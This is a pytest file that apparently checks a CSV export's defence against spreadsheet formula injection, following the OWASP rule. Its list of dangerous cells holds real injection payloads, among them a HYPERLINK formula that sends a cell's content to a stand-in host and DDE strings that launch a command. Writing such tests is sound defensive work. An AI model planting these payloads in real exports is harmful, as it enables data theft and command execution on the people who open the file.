"""Export cells cannot carry formulas: every cell of the CSV export that a spreadsheet would
evaluate is neutralized (OWASP "CSV Injection"), in every column, also when the file is
opened with another separator; safe values and plain numbers are left as they are.

The oracle is the OWASP rule restated here, not the export's own code: a cell is live when,
after the spaces a spreadsheet may trim, it starts with = + - @ (or their full-width forms),
a tab or a carriage return, unless it is a plain number. "-5" is a plain number: a spreadsheet
reads it as minus five and evaluates nothing, and a negative amount must stay a number.
The export itself is checked against the same rule in tests/test_export_formulas_in_export.py.
"""

import re

import pytest

from intel.exports import spreadsheet_safe

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def live(cell: str) -> bool:
    trimmed = cell.lstrip(" ")
    return trimmed.startswith(TRIGGERS) and not NUMBER.fullmatch(trimmed.strip())


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff20SUM(1)",
    '"=1+1"',
    "-",
]
SAFE = [
    "Frozen fish declared under-value",
    "ACME Trading Ltd.",
    "x=1+1",
    "e-mail: info@acme.example",
    "-5",
    "-5.25",
    "+31",
    "42",
    "",
    "'=already text",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_starting_a_formula_is_neutralized_and_keeps_its_text(value):
    cell = spreadsheet_safe(value)
    assert not live(cell), repr(cell)
    assert cell.startswith("'") or cell.lstrip(' "').startswith("'"), repr(cell)
    # Only apostrophes are added; the text itself is all there.
    assert cell.replace("'", "") == value.replace("'", "")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
    ],
)
def test_the_owasp_cases_get_a_leading_apostrophe(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.mark.parametrize("value", SAFE)
def test_safe_values_and_plain_numbers_are_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
def test_a_formula_after_another_separator_cannot_start_a_cell_either(separator):
    """A spreadsheet in a semicolon or tab locale splits the value there, and a line break
    can end the row for a reader that lost track of the quotes."""
    value = f'Frozen fish{separator}=HYPERLINK("http://evil.example"){separator}@SUM(1){separator}-5'
    cell = spreadsheet_safe(value)
    pieces = re.split(r"[;\t\r\n]", cell)
    assert [piece for piece in pieces if live(piece)] == [], repr(cell)
    assert pieces[0] == "Frozen fish" and pieces[-1] == "-5"
    assert cell.replace("'", "") == value.replace("'", "")
